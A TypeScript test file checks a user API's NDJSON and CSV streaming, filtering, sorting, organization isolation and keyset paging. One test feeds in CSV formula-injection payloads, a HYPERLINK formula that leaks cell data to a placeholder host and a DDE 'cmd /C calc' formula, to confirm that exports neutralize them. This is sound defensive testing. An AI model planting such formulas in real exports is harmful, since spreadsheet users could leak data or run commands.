import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { PassThrough } from 'node:stream';
import { exportCommand } from '../../src/commands/export.js';
import { bearer, buildTestApp, type TestApp } from '../support/app.js';
import { DIALECTS } from '../support/databases.js';
import { USER_CSV_COLUMNS } from '../../src/users/user.formats.js';
import { findUsers, streamUserRows } from '../../src/users/user.list.repository.js';

for (const dialect of DIALECTS) {
  describe(`GET users streamed as NDJSON and CSV (${dialect})`, () => {
    let t: TestApp;
    before(async () => {
      t = await buildTestApp(dialect);
    });
    after(async () => t.close());

    const page = async (query: string) => {
      const res = await t.app.inject({ url: `/api/v1/users?pagesize=10000${query}`, headers: bearer(t.demo.read) });
      assert.equal(res.statusCode, 200);
      return res.json().results as Record<string, unknown>[];
    };

    it('streams every user as NDJSON, unpaged, byte-identical to the JSON page results', async () => {
      const res = await t.app.inject({
        url: '/api/v1/users?pagesize=3',
        headers: { ...bearer(t.demo.read), accept: 'application/x-ndjson' },
      });
      assert.equal(res.statusCode, 200);
      assert.match(String(res.headers['content-type']), /^application\/x-ndjson/);
      const lines = res.body.split('\n');
      assert.equal(lines.pop(), '');
      assert.equal(lines.length, 165);
      assert.deepEqual(
        lines,
        (await page('')).map((u) => JSON.stringify(u)),
      );
    });

    for (const [label, query] of [
      ['filters', '&status=deactivated&role=reporting'],
      ['sort by name, descending', '&sortby=name&sortorder=desc'],
      ['sort by last_login_date (nulls last)', '&sortby=last_login_date'],
      ['sort by last_login_date descending (nulls last)', '&sortby=last_login_date&sortorder=desc'],
      ['billing group filter', '&billing_group=1234'],
    ] as const) {
      it(`keeps the ${label} of the JSON answer`, async () => {
        const res = await t.app.inject({
          url: `/api/v1/users?${query.slice(1)}`,
          headers: { ...bearer(t.demo.read), accept: 'application/x-ndjson' },
        });
        assert.equal(res.statusCode, 200);
        const streamed = res.body.split('\n').filter((l) => l !== '');
        assert.deepEqual(
          streamed,
          (await page(query)).map((u) => JSON.stringify(u)),
        );
      });
    }

    it('streams CSV with a header row naming the user fields, lists ;-separated', async () => {
      const res = await t.app.inject({
        url: '/api/v1/users?username=rsmith',
        headers: { ...bearer(t.demo.read), accept: 'text/csv' },
      });
      assert.equal(res.statusCode, 200);
      assert.match(String(res.headers['content-type']), /^text\/csv/);
      const records: string[][] = parse(res.body);
      assert.deepEqual(records[0], [...USER_CSV_COLUMNS]);
      assert.deepEqual(records[1], [
        '627b4c86-1ff1-4ca7-8827-95c214666636',
        'rsmith',
        'Rob Smith',
        '',
        '',
        'full',
        'false',
        'deactivated',
        '2016-03-03T16:13:59.1917141',
        '2015-12-03T20:06:02.083',
        '2016-08-24T13:39:03.937',
        'call_record_listen;reporting;administrator;ordering',
        '1234',
        '',
      ]);
      assert.equal(records.length, 2);
    });

    it('CSV neutralizes formulas: GET users always, roster export unless --keep-formulas', async () => {
      const formulas = [
        { username: '=HYPERLINK("x.example?"&A1,"open")', name: '@SUM(1+1)*cmd|" /C calc"!A0' },
        { username: '+1+cmd', name: '-2+3' },
      ];
      for (const { username, name } of formulas) {
        const res = await t.app.inject({
          method: 'POST',
          url: '/api/v1/users',
          headers: bearer(t.demo.write),
          payload: { username, name, email: 'f@example.com', call_detail_level: 'full', roles: ['reporting'] },
        });
        assert.equal(res.statusCode, 201, res.body);
      }
      const fields = (csv: string) => {
        const records: string[][] = parse(csv);
        return records.filter((r) => /^'?[=+]/.test(r[1]!)).map((r) => [r[1], r[2]]);
      };
      const neutralized = formulas.map(({ username, name }) => [`'${username}`, `'${name}`]).sort();
      const api = await t.app.inject({ url: '/api/v1/users', headers: { ...bearer(t.demo.read), accept: 'text/csv' } });
      assert.deepEqual(fields(api.body).sort(), neutralized);

      const exported = async (keepFormulas: boolean) => {
        const out = new PassThrough();
        const chunks: Buffer[] = [];
        out.on('data', (c: Buffer) => chunks.push(c));
        await exportCommand(t.config, { org: 'demo', format: 'csv', keepFormulas }, out);
        return Buffer.concat(chunks).toString('utf8');
      };
      assert.deepEqual(fields(await exported(false)).sort(), neutralized);
      assert.deepEqual(
        fields(await exported(true)).sort(),
        formulas.map(({ username, name }) => [username, name]).sort(),
      );
      // NDJSON is data, not a spreadsheet: values as stored.
      const ndjson = await t.app.inject({
        url: '/api/v1/users?username=%2B1',
        headers: { ...bearer(t.demo.read), accept: 'application/x-ndjson' },
      });
      assert.equal(JSON.parse(ndjson.body).name, '-2+3');
    });

    it('answers the JSON page when JSON is preferred, and 400 for a bad filter even when streaming', async () => {
      const json = await t.app.inject({
        url: '/api/v1/users?pagesize=2',
        headers: { ...bearer(t.demo.read), accept: 'application/json, application/x-ndjson;q=0.5' },
      });
      assert.equal(json.statusCode, 200);
      assert.equal(json.json().results.length, 2);
      const bad = await t.app.inject({
        url: '/api/v1/users?status=nope',
        headers: { ...bearer(t.demo.read), accept: 'text/csv' },
      });
      assert.equal(bad.statusCode, 400);
      assert.match(String(bad.headers['content-type']), /problem\+json/);
    });

    it('keeps other organizations out and documents the formats in the OpenAPI document', async () => {
      const other = await t.app.inject({
        url: '/api/v1/users',
        headers: { ...bearer(t.other.admin), accept: 'application/x-ndjson' },
      });
      assert.equal(other.statusCode, 200);
      assert.equal(other.body, '');
      const doc = (await t.app.inject({ url: '/openapi.json' })).json();
      const content = doc.paths['/api/v1/users'].get.responses['200'].content;
      assert.ok(content['application/json']);
      assert.ok(content['application/x-ndjson']);
      assert.ok(content['text/csv']);
    });
  });
}

for (const dialect of DIALECTS) {
  describe(`keyset paging across page boundaries (${dialect})`, () => {
    let t: TestApp;
    before(async () => {
      t = await buildTestApp(dialect);
    });
    after(async () => t.close());

    for (const field of ['username', 'name', 'last_login_date', 'last_updated_date'] as const) {
      for (const order of ['asc', 'desc'] as const) {
        it(`pages of 7 by ${field} ${order} give exactly findUsers' order`, async () => {
          const filter = { usernames: [], names: [], statuses: [], roles: [], billingGroups: [], groupOwners: [] };
          const expected = (await findUsers(t.conn.db, t.demo.orgId, filter, { field, order }, 10000, 0)).map(
            (r) => r.user_id,
          );
          const streamed: string[] = [];
          for await (const row of streamUserRows(t.conn.db, t.demo.orgId, filter, { field, order }, 7))
            streamed.push(row.user_id);
          assert.deepEqual(streamed, expected);
        });
      }
    }
  });
}
